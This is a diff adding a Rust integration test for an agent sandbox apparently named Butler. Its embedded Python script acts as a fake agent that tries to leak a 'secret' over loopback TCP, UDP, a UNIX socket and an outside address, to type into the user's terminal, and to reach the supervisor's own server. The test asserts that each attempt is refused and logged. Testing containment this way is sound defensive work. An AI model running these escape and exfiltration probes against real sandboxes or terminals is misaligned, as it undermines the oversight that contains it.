@@ -300,3 +300,205 @@ fn a_bad_allow_list_entry_is_a_configuration_error() {
         "no task was started"
     );
 }
+
+/// What the agent script `ways_out.py` tries, each printed as `fake-agent: <name> <outcome>`.
+const WAYS_OUT: &str = r#"
+import os, socket, sys, urllib.request
+exfil, udp_port, unix_path, tty, butler = sys.argv[1:6]
+proxy_port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
+def attempt(name, f):
+    try:
+        print("fake-agent:", name, "ok", f(), file=sys.stderr, flush=True)
+    except OSError as e:
+        print("fake-agent:", name, "refused", e.errno, e.strerror, file=sys.stderr, flush=True)
+def tcp(host, port):
+    return lambda: socket.create_connection((host, port), timeout=5).sendall(b"secret")
+def udp():
+    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", int(udp_port)))
+def unix():
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(unix_path)
+    s.sendall(b"secret")
+def terminal():
+    fd = os.open(tty, os.O_RDWR | os.O_NOCTTY)
+    os.write(fd, b"echo typed by the agent\n")
+def session():
+    body = b'{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}'
+    req = urllib.request.Request("http://127.0.0.1:%s/mcp" % butler, data=body,
+                                 headers={"content-type": "application/json"})
+    try:
+        return urllib.request.urlopen(req, timeout=10).status
+    except urllib.error.HTTPError as e:
+        return "http %d" % e.code
+attempt("exfil_loopback", tcp("127.0.0.1", int(exfil)))
+attempt("proxy_port_elsewhere", tcp("127.0.0.2", proxy_port))
+attempt("unlisted_host", tcp("203.0.113.9", 443))
+attempt("udp", udp)
+attempt("unix_socket", unix)
+attempt("terminal", terminal)
+attempt("butler_direct", tcp("127.0.0.1", int(butler)))
+attempt("butler_session", session)
+"#;
+
+/// A terminal of the user's: a pseudo-terminal another program holds open; its path.
+fn users_terminal() -> (std::process::Child, String) {
+    let mut child = Command::new("/usr/bin/python3")
+        .args([
+            "-c",
+            "import os, pty, sys, time\nm, s = pty.openpty()\nprint(os.ttyname(s), flush=True)\ntime.sleep(120)",
+        ])
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .expect("pty holder");
+    let mut line = String::new();
+    BufReader::new(child.stdout.take().expect("stdout"))
+        .read_line(&mut line)
+        .expect("tty path");
+    (child, line.trim().to_owned())
+}
+
+#[test]
+fn every_other_way_out_is_closed_and_the_evidence_shows_it() {
+    let (model, _) = model_server();
+    let w = World::new("");
+    // Listeners the agent must not reach: a loopback server, a datagram socket, a UNIX socket,
+    // a terminal, and Butler's own HTTP server.
+    let exfil = TcpListener::bind("127.0.0.1:0").expect("listen");
+    exfil.set_nonblocking(true).expect("nonblocking");
+    let udp = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
+    udp.set_nonblocking(true).expect("nonblocking");
+    let unix_path = w.w.path("agent-bus.sock");
+    let unix = std::os::unix::net::UnixListener::bind(&unix_path).expect("unix");
+    unix.set_nonblocking(true).expect("nonblocking");
+    let (mut tty_holder, tty) = users_terminal();
+    let butler_port = TcpListener::bind("127.0.0.1:0")
+        .expect("free port")
+        .local_addr()
+        .expect("addr")
+        .port();
+    let token = w.w.path("http-token");
+    std::fs::write(&token, "tok-http-1234567890").expect("token");
+    let mut server = Command::new(BUTLER)
+        .args([
+            "serve",
+            "--http",
+            &format!("127.0.0.1:{butler_port}"),
+            "--token-file",
+        ])
+        .arg(&token)
+        .current_dir(&w.project)
+        .env_clear()
+        .env("PATH", std::env::var_os("PATH").expect("PATH"))
+        .envs(w.w.env.iter().cloned())
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("butler serve");
+    let up = (0..100).any(|_| {
+        std::thread::sleep(std::time::Duration::from_millis(50));
+        std::net::TcpStream::connect(("127.0.0.1", butler_port)).is_ok()
+    });
+    assert!(up, "butler serve did not listen");
+
+    let script_file = w.w.path("ways_out.py");
+    std::fs::write(&script_file, WAYS_OUT).expect("script");
+    let run = format!(
+        "/usr/bin/python3 '{}' {} {} '{}' '{}' {}",
+        script_file.display(),
+        exfil.local_addr().expect("addr").port(),
+        udp.local_addr().expect("addr").port(),
+        unix_path.display(),
+        tty,
+        butler_port
+    );
+    let script = json!([
+        {"do": "write", "path": "src/greet.rs", "text": "pub fn greet() {}\n"},
+        // The allowed work: its model, through the proxy.
+        curl("model", "\"$OPENAI_HOST/v1/models\" -o /dev/null", "%{http_code}"),
+        {"do": "sh", "cmd": run},
+    ]);
+    std::fs::write(&w.script, format!("{script}\n")).expect("script");
+    let result = w.implement(model, &[]);
+    let _ = server.kill();
+    let _ = server.wait();
+    let _ = tty_holder.kill();
+    let _ = tty_holder.wait();
+    assert_eq!(result["outcome"], "succeeded", "{result:#}");
+    let log = w.log();
+    assert!(log.contains("fake-agent: model 200"), "{log}");
+    // EACCES, as Python prints it: the sandbox's refusal, not the network's (`ECONNREFUSED`).
+    let eacces = "13 Permission denied";
+    for name in [
+        "exfil_loopback",
+        "proxy_port_elsewhere",
+        "unlisted_host",
+        "udp",
+        "unix_socket",
+        "terminal",
+        "butler_direct",
+    ] {
+        assert!(
+            log.contains(&format!("fake-agent: {name} refused {eacces}")),
+            "{name}: {log}"
+        );
+    }
+    // Through the proxy, Butler's server is refused with a reason (loopback, not an endpoint).
+    assert!(
+        log.contains("fake-agent: butler_session ok http 403"),
+        "{log}"
+    );
+    // Nothing reached any of them.
+    assert!(exfil.accept().is_err(), "the loopback server was reached");
+    assert!(udp.recv(&mut [0u8; 16]).is_err(), "a datagram arrived");
+    assert!(unix.accept().is_err(), "the UNIX socket was reached");
+
+    // The evidence shows each refusal: the system calls, and the proxy's refusal.
+    let sandbox = &result["attempts"][0]["sandbox"];
+    assert_eq!(sandbox["network"]["kind"], "proxy", "{sandbox:#}");
+    assert_eq!(sandbox["syscall_filter"], true, "{sandbox:#}");
+    let proxy_port = sandbox["network"]["proxy"]
+        .as_str()
+        .and_then(|p| p.rsplit(':').next())
+        .expect("proxy port")
+        .to_owned();
+    let refused: Vec<String> = sandbox["syscalls_refused"]
+        .as_array()
+        .expect("refused calls")
+        .iter()
+        .map(|r| {
+            format!(
+                "{} {}",
+                r["call"].as_str().unwrap_or(""),
+                r["detail"].as_str().unwrap_or("")
+            )
+        })
+        .collect();
+    for expected in [
+        format!(
+            "connect 127.0.0.1:{}",
+            exfil.local_addr().expect("addr").port()
+        ),
+        format!("connect 127.0.0.2:{proxy_port}"),
+        "connect 203.0.113.9:443".to_owned(),
+        format!("connect 127.0.0.1:{butler_port}"),
+        "socket ipv4 datagram".to_owned(),
+        "socket unix stream".to_owned(),
+    ] {
+        assert!(refused.contains(&expected), "{expected} not in {refused:?}");
+    }
+    let butler_refused = connections(&sandbox["egress"]["agent"])
+        .iter()
+        .any(|c| c["port"] == butler_port && c["verdict"] == "refused");
+    assert!(butler_refused, "{:#}", sandbox["egress"]);
+    // The terminal, refused by Landlock, shows among the refusal lines of the output.
+    let terminal = sandbox["refused"]
+        .as_array()
+        .into_iter()
+        .flatten()
+        .any(|r| {
+            r["line"]
+                .as_str()
+                .is_some_and(|l| l.contains("terminal refused"))
+        });
+    assert!(terminal, "{:#}", sandbox["refused"]);
+}
